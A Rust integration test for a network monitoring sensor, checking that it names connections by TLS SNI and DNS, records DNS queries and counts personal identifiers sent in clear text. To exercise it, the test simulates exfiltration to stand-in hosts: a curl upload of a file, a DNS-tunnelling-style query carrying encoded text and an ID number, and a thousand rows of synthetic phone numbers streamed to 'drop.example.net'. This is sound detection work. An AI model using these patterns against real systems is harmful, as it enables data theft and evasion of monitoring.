//! What first bytes bring, from the real kernel to events: names of the other side, questions to DNS, people in clear text.

use super::sensor::sensor;
use super::world::World;
use crate::support::{Guard, Scratch, run, until};
use kuzet_decode::{Chunk, DecodeOptions, Edge, Format};
use kuzet_event::{Application, Event, FileId, Flow, Naming, SourceId, Transport};
use kuzet_personal::Key;
use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::process::Command;
use std::time::Duration;

const LIMIT: Duration = Duration::from_secs(30);

/// What the agent makes of the sensor's lines so far.
fn events(guard: &Guard) -> Vec<Event> {
    let text = guard.output();
    let bytes = &text.as_bytes()[..text.rfind('\n').map_or(0, |end| end + 1)];
    let mut events = Vec::new();
    let chunk = Chunk { source: SourceId(0), file: FileId(0), offset: 0, bytes, edge: Edge::End };
    Format::Sensor.decoder(&DecodeOptions::new(Key::new([7; 32]))).decode(chunk, &mut events);
    events
}

/// Events of connections to `address`.
fn flows<'a>(events: &'a [Event], address: &str, port: u16) -> Vec<(&'a Event, &'a Flow)> {
    let to =
        |flow: &Flow| flow.remote.is_some_and(|remote| remote.ip().to_string() == address && remote.port() == port);
    events.iter().filter_map(|event| Some((event, event.flow.as_deref()?))).filter(|(_, flow)| to(flow)).collect()
}

/// A question to DNS for the address of a name.
fn question(name: &str) -> Vec<u8> {
    let labels = name.split('.').flat_map(|label| [&[label.len() as u8][..], label.as_bytes()].concat());
    let head = [0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0].into_iter();
    head.chain(labels).chain([0, 0, 1, 0, 1]).collect()
}

#[test]
fn connections_have_names_and_people_are_counted() {
    let (scratch, world) = (Scratch::new("names"), World::new());
    let _uploads = world.https(&world.abroad, &scratch);
    let (drop, resolver) = (world.listen(&world.abroad, 9_999), world.datagrams(&world.abroad, 53));
    let guard = sensor(&scratch, &[]);

    // By HTTPS, the name in the hello.
    std::fs::write(scratch.join("report"), vec![7; 100_000]).expect("own folder");
    let url = "https://files.example.com/report";
    let mut curl = Command::new("curl");
    curl.args(["-sk", "--noproxy", "*", "--resolve", &format!("files.example.com:443:{}", world.abroad), "-T"]);
    run(curl.arg(scratch.join("report")).arg(url));

    // A name from DNS, and what is sent to its address in clear: rows of a table.
    let asker = UdpSocket::bind("0.0.0.0:0").expect("a port");
    let asked = question("drop.example.net");
    asker.send_to(&asked, (world.abroad.as_str(), 53)).expect("sent");
    asker
        .send_to(&question("nbswy3dpeb3w64tmmqqho2lu.850830346939.t.example.org"), (world.abroad.as_str(), 53))
        .expect("sent");
    let mut got = [0; 512];
    let (length, from) = resolver.recv_from(&mut got).expect("a question");
    assert_eq!(got[..length], asked);
    let address = world.abroad.parse::<std::net::Ipv4Addr>().expect("an address").octets();
    let answer =
        [&[0, 7, 0x81, 0x80, 0, 1, 0, 1], &asked[8..], &[0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4], &address].concat();
    resolver.send_to(&answer, from).expect("sent");
    asker.recv(&mut got).expect("an answer");
    let rows: String = (0..1_000).map(|row| format!("{row}\t850830346939\t+77{:09}\n", 10_000_000 + row)).collect();
    let mut stream = TcpStream::connect((world.abroad.as_str(), 9_999)).expect("the world listens");
    stream.write_all(rows.as_bytes()).expect("sent");
    std::mem::drop(stream);
    drop.accept().expect("it came").0.read_to_end(&mut Vec::new()).expect("its end");

    let told = until("names and people are told", LIMIT, || {
        let told = events(&guard);
        let ended =
            |port| flows(&told, &world.abroad, port).iter().any(|(event, _)| event.bytes.known() >= Some(20_000));
        (ended(443) && ended(9_999) && flows(&told, &world.abroad, 53).len() >= 3).then_some(told)
    });
    for (_, flow) in flows(&told, &world.abroad, 443) {
        let name = flow.name.as_ref().map(|(name, naming)| (&**name, *naming));
        assert_eq!(name, Some(("files.example.com", Naming::Sni)), "{flow:?}");
        assert_eq!(flow.process.as_ref().map(|process| &*process.name), Some("curl"));
    }
    let sent = flows(&told, &world.abroad, 9_999);
    let mut people: Vec<_> = sent.iter().flat_map(|(event, _)| &event.identifiers).map(|person| person.key).collect();
    people.sort_unstable();
    people.dedup();
    assert_eq!(people.len(), 1_001, "one IIN, a thousand numbers");
    for (_, flow) in sent {
        assert_eq!(
            flow.name.as_ref().map(|(name, naming)| (&**name, *naming)),
            Some(("drop.example.net", Naming::Dns))
        );
        let payload = flow.payload.expect("its bytes were read");
        assert_eq!((payload.application, payload.read, payload.passed), (Application::Other, rows.len() as u64, 0));
        assert!(flow.process.is_some());
    }
    let asked = flows(&told, &world.abroad, 53);
    let queries: Vec<_> = asked.iter().filter_map(|(_, flow)| flow.query.as_ref()).collect();
    assert!(asked.iter().all(|(_, flow)| flow.transport == Transport::Udp && flow.process.is_some()));
    let shapes: Vec<_> = queries.iter().map(|query| (&*query.domain, query.below, query.record)).collect();
    assert_eq!(shapes, [("example.net", 4, 1), ("example.org", 39, 1)]);
    assert!(queries[1].entropy > queries[0].entropy && !format!("{told:?}").contains("850830"));
}
